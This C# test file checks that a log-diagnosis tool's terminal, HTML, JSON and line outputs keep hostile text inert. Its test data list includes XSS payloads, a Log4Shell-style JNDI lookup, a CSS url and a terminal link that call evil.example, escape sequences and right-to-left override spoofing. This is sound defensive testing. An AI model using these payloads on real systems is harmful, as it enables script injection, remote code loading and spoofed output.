using System.Text;
using System.Text.Json;
using Weir.Diagnosing;
using Weir.Diagnosing.Page;
using Weir.Diagnosis.Causes;
using Weir.Diagnosis.Reports;

namespace Weir.Tests.Diagnosing;

/// <summary>A log is written by whoever sends requests: none of it may act, in any of the three outputs.</summary>
public sealed class HostileTextTests
{
    public static TheoryData<string> HostileTexts =>
    [
        "[bold red]markup[/] [link=http://evil.example]x[/]",
        "\u001b[2J\u001b]0;owned\u0007\u001b]8;;http://evil.example\u001b\\",
        "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>' onmouseover='alert(1)",
        "</style><style>*{background:url(http://evil.example)}</style><!--",
        "\u202etxt.exe\u202c \u2066a\u2069 \u200f",
        "halves \ud800 \udc00, replaced \ufffd",
        "\u009b31m\u0085\u2028\u2029\0\b",
        "{{7*7}} ${jndi:ldap://evil.example} %n%s",
        new string('A', 70_000),
    ];

    private static DiagnosisReport ReportOf(string hostile)
    {
        ExampleError example = SampleReports.ExampleUrl(hostile) with
        {
            TraceId = hostile,
            Method = hostile,
            Target = hostile,
            Times = hostile,
            File = hostile,
            TargetLog = hostile,
        };
        Finding finding = SampleReports.KeepaliveRace(example) with
        {
            TargetGroup = hostile,
            Headline = hostile,
            Evidence = [hostile],
            RuledOut = [new RuledOut(Cause.TargetRestart, hostile)],
            Alternatives = [new Alternative(Cause.TargetCrash, 0.1, hostile)],
            Targets = [new TargetShare(hostile, 10, 1)],
            Fixes = [new Fix(hostile, hostile, hostile, hostile, hostile)],
        };
        return SampleReports.Race with
        {
            Findings = [finding],
            Notes = [hostile],
            Counts = SampleReports.Race.Counts with { UnreadablePlaces = [hostile] },
            Charts = SampleReports.Race.Charts with { Targets = [new TargetShare(hostile, 10, 1)] },
        };
    }

    // Nothing that moves a cursor, turns a line around or hides.
    private static void AssertInert(string text) => Assert.All(
        text.EnumerateRunes(),
        static rune => Assert.True(
            rune.Value == '\n' || (Rune.GetUnicodeCategory(rune) is not (System.Globalization.UnicodeCategory.Control
                or System.Globalization.UnicodeCategory.Format or System.Globalization.UnicodeCategory.LineSeparator
                or System.Globalization.UnicodeCategory.ParagraphSeparator or System.Globalization.UnicodeCategory.Surrogate)),
            $"U+{rune.Value:X4}"));

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public void Terminal_HostileText_IsInert(string hostile)
    {
        var output = new StringWriter { NewLine = "\n" };

        new TerminalReport(ReportConsole.Create(output, hasColours: false, 100), ReportClock.Utc).Write(ReportOf(hostile));

        AssertInert(output.ToString());
        Assert.True(output.ToString().Length < 60_000);
    }

    [Fact]
    public void Terminal_Markup_IsShownAsItIs()
    {
        var output = new StringWriter { NewLine = "\n" };

        new TerminalReport(ReportConsole.Create(output, hasColours: true, 100), ReportClock.Utc).Write(ReportOf("[bold red]x[/]"));

        Assert.Contains("[bold red]x[/]", output.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public void Page_HostileText_IsInert(string hostile)
    {
        string page = new ReportPage(ReportOf(hostile), ReportClock.Utc, isRedacted: false).Write();

        AssertInert(page);
        Assert.All(
            (string[])["<script", "<img", "onload=alert(1)>", "</style><style>*", "<!--", "evil.example\""],
            part => Assert.DoesNotContain(part, page, StringComparison.OrdinalIgnoreCase));
        Assert.Equal(1, page.AsSpan().Count("<style>"));
        Assert.True(page.Length < 200_000);
    }

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public void Json_HostileText_IsInertAndWhole(string hostile)
    {
        using var output = new MemoryStream();

        JsonReport.Write(ReportOf(hostile), output);

        string json = Encoding.UTF8.GetString(output.ToArray());
        AssertInert(json);
        Assert.DoesNotContain('<', json);
        JsonElement finding = JsonDocument.Parse(json).RootElement.GetProperty("findings")[0];
        string whole = Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(hostile));
        Assert.Equal(whole, finding.GetProperty("examples")[0].GetProperty("url").GetString());
    }

    [Fact]
    public void EachLine_HostileTraceId_IsOneLineAndInert()
    {
        using var output = new MemoryStream();
        var writer = new EachLineWriter(output);

        writer.Accept(new ErrorVerdict(SampleReports.ExampleUrl("-").Time, "Root=\"\n\u001b[31m</script>\u202e\ud800", 502, Cause.KeepaliveRace, 0.9));
        writer.Flush();

        string line = Encoding.UTF8.GetString(output.ToArray());
        AssertInert(line);
        Assert.Equal(line.Length - 1, line.IndexOf('\n', StringComparison.Ordinal));
        Assert.Equal("Root=\"\n\u001b[31m</script>\u202e\ufffd", JsonDocument.Parse(line).RootElement.GetProperty("trace_id").GetString());
    }
}
